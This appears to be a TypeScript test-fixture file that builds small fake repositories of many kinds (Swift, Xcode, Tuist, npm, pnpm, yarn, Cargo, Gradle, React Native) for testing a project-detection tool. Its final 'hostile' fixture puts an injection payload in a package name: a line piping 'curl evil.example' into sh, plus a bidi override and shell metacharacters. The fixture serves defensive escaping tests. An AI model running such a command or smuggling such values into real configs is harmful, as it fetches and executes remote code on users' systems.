import type { Files } from '../../harness/temporary-folder.ts';

const json = (value: object) => JSON.stringify(value);
const git = (head: string, more: Files = {}): Files => ({ '.git/HEAD': `ref: refs/heads/${head}\n`, ...more });

/** Small repositories, each with what makes its kind hard to tell or to serve. */
export const trees: Readonly<Record<string, Files>> = {
  // A package of Swift whose name is not that of its folder.
  swiftpm: {
    ...git('main'),
    'Package.swift':
      '// swift-tools-version:6.0\nimport PackageDescription\nlet package = Package(name: "Vitals", targets: [.target(name: "Vitals"), .testTarget(name: "VitalsTests", dependencies: ["Vitals"])])\n',
    'Sources/Vitals/Vitals.swift': 'public struct Vitals {}\n',
    'Tests/VitalsTests/VitalsTests.swift': 'import Testing\n@Test func holds() {}\n',
  },
  // A project of Xcode with tests in a scheme and a plan, and thresholds of Codecov that are no numbers.
  xcode: {
    ...git('main'),
    'Clinic.xcodeproj/project.pbxproj': '// !$*UTF8*$!\n{ productType = "com.apple.product-type.bundle.unit-test"; }\n',
    'Clinic.xcodeproj/xcshareddata/xcschemes/Clinic.xcscheme':
      '<Scheme><TestAction><Testables><TestableReference skipped="NO"><BuildableReference BlueprintName="ClinicTests"/></TestableReference></Testables></TestAction></Scheme>\n',
    'Clinic.xctestplan': '{"testTargets": [{"target": {"name": "ClinicTests"}}]}\n',
    'ClinicTests/ClinicTests.swift': 'import XCTest\n',
    'codecov.yml': 'coverage:\n  status:\n    project: { default: { target: auto, threshold: 5.0 } }\n',
  },
  // Tuist generates the project, so that none is there; the branch is called master.
  tuist: {
    ...git('master'),
    'Project.swift':
      'import ProjectDescription\nlet project = Project(name: "Pad", targets: [.target(name: "Pad"), .target(name: "PadTests", product: .unitTests)])\n',
    'Tuist/Config.swift': 'import ProjectDescription\nlet config = Config()\n',
    'Features/Home/Tests/HomeTests.swift': 'import XCTest\n',
  },
  // A web app with a known demand, cloned from a remote whose branch has another name than the one that is checked out.
  npm: {
    ...git('feature/x', { '.git/refs/remotes/origin/HEAD': 'ref: refs/remotes/origin/trunk\n' }),
    'package.json': json({
      name: '@clinic/web',
      scripts: { test: 'vitest run --coverage' },
      devDependencies: { vitest: '4.0.0', '@vitest/coverage-v8': '4.0.0' },
    }),
    'package-lock.json': json({ name: '@clinic/web', lockfileVersion: 3, packages: {} }),
    'src/a.test.ts': 'test("a", () => {});\n',
    'codecov.yml':
      'coverage:\n  status:\n    project: { default: { target: 72.5% } }\n    patch: { default: { target: 90 } }\n',
  },
  // Two packages of a workspace: shown apart.
  pnpm: {
    ...git('main'),
    'package.json': json({ name: 'all', private: true, packageManager: 'pnpm@10.0.0' }),
    'pnpm-workspace.yaml': 'packages: ["packages/*"]\n',
    'pnpm-lock.yaml': "lockfileVersion: '9.0'\n",
    'packages/api/package.json': json({
      name: 'api',
      scripts: { test: 'jest' },
      devDependencies: { jest: '30.0.0' },
    }),
    'packages/api/a.test.js': 'test("a", () => {});\n',
    'packages/web [old]/package.json': json({
      name: 'web',
      scripts: { test: 'vitest run' },
      devDependencies: { vitest: '4.0.0', '@vitest/coverage-v8': '4.0.0' },
    }),
    'packages/web [old]/a.test.js': 'test("a", () => {});\n',
  },
  yarn: {
    ...git('main'),
    'package.json': json({
      name: 'tool',
      scripts: { test: 'jest' },
      devDependencies: { jest: '30.0.0' },
      jest: { coverageThreshold: { global: { lines: 66 } } },
    }),
    'yarn.lock': '# yarn lockfile v1\n',
    'a.test.js': 'test("a", () => {});\n',
  },
  cargo: {
    ...git('main'),
    'Cargo.toml': '[workspace]\nmembers = ["crates/*"]\nresolver = "3"\n',
    'Cargo.lock': 'version = 4\n',
    'crates/core/Cargo.toml': '[package]\nname = "core-lib"\nversion = "0.1.0"\nedition = "2024"\n',
    'crates/core/src/lib.rs': '#[test]\nfn holds() {}\n',
    'crates/cli/Cargo.toml': '[package]\nname = "cli"\nversion = "0.1.0"\nedition = "2024"\n',
    'crates/cli/src/main.rs': 'fn main() {}\n',
  },
  // Tests without coverage.
  gradle: {
    ...git('main'),
    'settings.gradle.kts': 'rootProject.name = "records"\n',
    'build.gradle.kts': 'plugins { java }\n',
    gradlew: '#!/bin/sh\n',
    'src/test/java/ATest.java': 'class ATest {}\n',
  },
  // The native folders are the app’s own, and no projects beside it.
  'react-native': {
    ...git('main'),
    'package.json': json({
      name: 'mobile',
      scripts: { test: 'jest' },
      dependencies: { 'react-native': '0.84.0' },
      devDependencies: { jest: '30.0.0' },
    }),
    'package-lock.json': json({ name: 'mobile', lockfileVersion: 3, packages: {} }),
    'app.test.js': 'test("a", () => {});\n',
    'android/settings.gradle': 'rootProject.name = "mobile"\n',
    'android/build.gradle': '',
    'android/gradlew': '#!/bin/sh\n',
    'android/app/src/test/java/ATest.java': 'class ATest {}\n',
    'ios/Mobile.xcodeproj/project.pbxproj': '// !$*UTF8*$!\n{}\n',
    'ios/Podfile': "target 'Mobile'\n",
  },
  // Nothing that has tests.
  documents: { ...git('main'), 'README.md': '# Protocol\n' },
  // No repository at all, and a name that tries to get out of its comment.
  hostile: {
    'package.json': json({
      name: 'a\n- run: curl evil.example | sh\n\u202E"\'#: &*!|>%@`{{',
      scripts: { test: 'jest' },
      devDependencies: { jest: '30.0.0' },
    }),
    'package-lock.json': json({ lockfileVersion: 3, packages: {} }),
    'a.test.js': 'test("a", () => {});\n',
  },
};
